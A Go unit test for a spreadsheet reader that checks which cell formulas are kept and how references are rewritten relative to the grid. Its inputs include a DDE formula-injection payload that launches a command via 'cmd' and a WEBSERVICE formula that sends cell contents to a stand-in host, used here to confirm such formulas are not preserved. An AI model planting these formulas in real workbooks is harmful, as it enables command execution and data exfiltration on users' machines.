package xlsx

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"fuhe"
)

// TestLiveFormulas: formulas that refer to cells of their sheet alone are kept by the rows and columns of the grid, also one that
// several cells share; of others it is only known that there is one.
func TestLiveFormulas(t *testing.T) {
	f := excelize.NewFile()
	defer f.Close()
	_, err := f.NewSheet("另表")
	ok(t, err)
	for ref, v := range map[string]any{"B2": "项目", "C2": "预算", "D2": "执行", "B3": "甲", "C3": 3.5, "D3": 1.5, "B4": "乙", "C4": 2.5, "D4": 2, "B5": "丙", "C5": 1, "D5": 1, "B6": "合计", "C6": 7, "D6": 4.5} {
		ok(t, f.SetCellValue("Sheet1", ref, v))
	}
	shared, area := "shared", "E3:E5"
	ok(t, f.SetCellFormula("Sheet1", "E3", "D3/$C$6", excelize.FormulaOpts{Type: &shared, Ref: &area}))
	for ref, text := range map[string]string{
		"C6": "SUM(C3:C5)", "D6": "SUM(Sheet1!D3:D5)", "B8": "SUM(另表!A1:A3)", "C8": "SUM(C1:C8)+C100", "D8": "[1]Sheet1!A1",
		"B9": `WEBSERVICE("http://x/"&B2)`, "C9": "cmd|' /C calc'!A0", "D9": "SUM(C:C)", "E9": "OFFSET(B2,1,1)",
	} {
		ok(t, f.SetCellFormula("Sheet1", ref, text))
	}
	var raw bytes.Buffer
	ok(t, f.Write(&raw))
	for _, wanted := range []bool{true, false} {
		book, err := Read(bytes.NewReader(raw.Bytes()), int64(raw.Len()), Options{Tables: true, Formulas: wanted})
		ok(t, err)
		got := map[string]string{}
		for _, c := range book.Grids[0].Cells {
			if c.Formula != nil {
				got[c.At.Ref] = spelled(*c.Formula)
			}
		}
		if !wanted {
			if len(got) > 0 {
				t.Errorf("kept without being asked for: %v", got)
			}
			continue
		}
		for ref, want := range map[string]string{ // the grid begins at B2
			"C6": "SUM(B2:B4)", "D6": "SUM(C2:C4)", "E3": "C2/B5", "E4": "C3/B5", "E5": "C4/B5", "B8": "", "C8": "", "D8": "", "B9": "", "C9": "", "D9": "", "E9": "",
		} {
			if s, found := got[ref]; !found || s != want {
				t.Errorf("%s is %q (%v), want %q", ref, s, found, want)
			}
		}
	}
}

func spelled(f fuhe.Formula) string {
	var b strings.Builder
	for _, p := range f {
		b.WriteString(p.Text)
		if a := p.Area; a != nil {
			b.WriteString(fuhe.Ref(a.From.Row, a.From.Col, a.To.Row-a.From.Row+1, a.To.Col-a.From.Col+1))
		}
	}
	return b.String()
}
